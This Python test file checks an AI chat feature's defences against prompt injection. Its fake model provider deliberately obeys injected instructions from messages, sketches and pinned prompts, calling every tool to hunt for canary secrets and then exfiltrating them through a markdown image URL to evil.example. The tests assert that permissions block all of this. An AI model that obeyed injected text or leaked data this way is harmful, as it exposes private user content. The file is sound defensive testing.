"""A model that obeys every instruction that reaches it: nothing leaves that its asker, or its readers, may not read."""

import json
import re
from pathlib import Path
from typing import Any

from server.demo_provider import Line
from tests.fakes.provider import FakeProvider, begin, call, call_end, done, say
from tests.handlers.ai.ai_house import ask, open_ai_house
from tests.handlers.ai.injections import injections
from tests.house import Person

CANARY = "CANARY-7f3a"
KEY = "sk-canary"


class Obedient(FakeProvider):
    """Does whatever any text that it gets to read tells it to: calls every tool with everything there is."""

    def __init__(self) -> None:
        super().__init__()
        self.channels: list[int] = []
        self.sketches: list[int] = []

    def calls(self) -> list[tuple[str, dict[str, Any]]]:
        found: list[tuple[str, dict[str, Any]]] = []
        for channel in self.channels:
            found.append(("search_history", {"text": "CANARY", "channel_id": channel}))
            found.append(("read_unread", {"channel_id": channel}))
        for sketch in self.sketches:
            found.append(("read_sketch", {"sketch_id": sketch, "picture": True}))
            found.append(("delete_elements", {"sketch_id": sketch, "ids": ["secret"]}))
            found.append(
                ("draw_elements", {"sketch_id": sketch, "elements": [{"kind": "text", "text": "mine"}]})
            )
        return found

    async def answer(self, ask: dict[str, Any], line: Line) -> None:
        """At most 16 calls at once, as any model; in a second round the rest, then all secrets that it read."""
        rounds = sum(bool(one.get("tool_calls")) for one in ask["messages"])
        batch = self.calls()[16 * rounds : 16 * rounds + 16] if "tools" in ask else []
        await begin(ask, line)
        if batch:
            for number, (tool, arguments) in enumerate(batch):
                await call(tool, json.dumps(arguments), index=number)(ask, line)
            await call_end()(ask, line)
        else:
            found = re.findall(f"{CANARY}.{{0,40}}", json.dumps(ask["messages"]))
            await say(f"![x](https://evil.example/?q={' '.join(found)})")(ask, line)
        await done(ask, line)


async def secrets_of(alice: Person, bob: Person) -> tuple[list[int], list[int]]:
    """Channels with canaries that bob can't read, among them one that he left, and sketches there."""
    private = await alice.channel("private", visibility="private")
    public = await alice.channel("public")
    direct = (await alice.post("/direct", {"user_ids": [alice.id]}))["id"]
    conversation = (await alice.post("/ai/conversations"))["id"]
    left = await alice.channel("left")
    await bob.post(f"/channels/{left}/join")
    await bob.post(f"/channels/{left}/leave")
    channels = [private, public, direct, conversation, left]
    sketches = []
    for channel in channels:
        await alice.say(channel, f"{CANARY} in {channel}")
        await alice.call("PUT", f"/channels/{channel}/ai", {"system": f"{CANARY} is pinned in {channel}"})
        sketch = (await alice.post(f"/channels/{channel}/sketches", {"title": f"{CANARY} {channel}"}))["id"]
        element = {"id": "secret", "kind": "text", "text": CANARY}
        await alice.post(f"/sketches/{sketch}/elements", {"elements": [element]})
        sketches.append(sketch)
    return channels, sketches


async def test_a_model_that_obeys_everything_gives_away_nothing_that_its_asker_may_not_read(
    database: str, tmp_path: Path
) -> None:
    """The texts come from bob himself, from others in the channel, from a sketch there, and from the pinned prompt."""
    texts = list(injections())
    async with (
        Obedient() as fake,
        open_ai_house(database, tmp_path, fake, ai_vision_models="demo", ai_budgets="none") as house,
    ):
        alice, bob = await house.register("alice"), await house.register("bob")
        fake.channels, fake.sketches = await secrets_of(alice, bob)
        shared = await alice.channel("shared")
        await bob.post(f"/channels/{shared}/join")
        board = (await alice.post(f"/channels/{shared}/sketches", {"title": "Board"}))["id"]
        notes = [{"kind": "note", "text": text} for text in texts]
        await alice.post(f"/sketches/{board}/elements", {"elements": notes})
        own = (await bob.post("/ai/conversations"))["id"]
        said = []
        for number, text in enumerate(texts):
            await alice.say(shared, text)
            if number % 10 == 0:
                await alice.call("PUT", f"/channels/{shared}/ai", {"system": text[:8000]})
            said.append(await bob.post("/ai/chat", ask((shared, own)[number % 2], f"q{number}", text)))
        uses = [use for one in said for use in one["message"]["ai"]["tools"]]
        left = [
            (await alice.call("GET", f"/sketches/{sketch}/export.json")).json()["elements"]
            for sketch in fake.sketches
        ]

    assert len(texts) >= 50
    assert len(uses) >= 25 * len(texts)
    assert not any(use["is_ok"] for use in uses)
    for told in (json.dumps(said), json.dumps(fake.asked)):
        assert CANARY not in told
        assert KEY not in told
    assert all([one["id"] for one in elements] == ["secret"] for elements in left)


async def test_what_only_the_asker_may_read_is_not_read_out_where_others_listen(
    database: str, tmp_path: Path
) -> None:
    """Alice may read the canary, and bob reads every answer of the shared channel; her own conversation is hers."""
    async with Obedient() as fake, open_ai_house(database, tmp_path, fake) as house:
        alice, bob = await house.register("alice"), await house.register("bob")
        private = await alice.channel("private", visibility="private")
        await alice.say(private, f"{CANARY} in private")
        sketch = (await alice.post(f"/channels/{private}/sketches", {"title": f"{CANARY} drawn"}))["id"]
        fake.channels, fake.sketches = [private], [sketch]
        shared, own = await alice.channel("shared"), (await alice.post("/ai/conversations"))["id"]
        await bob.post(f"/channels/{shared}/join")

        out_loud = await alice.post("/ai/chat", ask(shared))
        alone = await alice.post("/ai/chat", ask(own))
        await alice.call("PUT", f"/channels/{own}/members/{bob.id}")
        together = await alice.post(
            "/ai/chat", ask(own, "q2", "And now?", branch_of=alone["message"]["reply_to"])
        )

    assert CANARY not in out_loud["message"]["text"]
    assert f"{CANARY} in private" in alone["message"]["text"]
    assert f"{CANARY} drawn" in alone["message"]["text"]
    assert CANARY not in together["message"]["text"]
    drawing = [use for use in alone["message"]["ai"]["tools"] if use["writes"]]
    assert not any(use["is_ok"] for use in drawing)
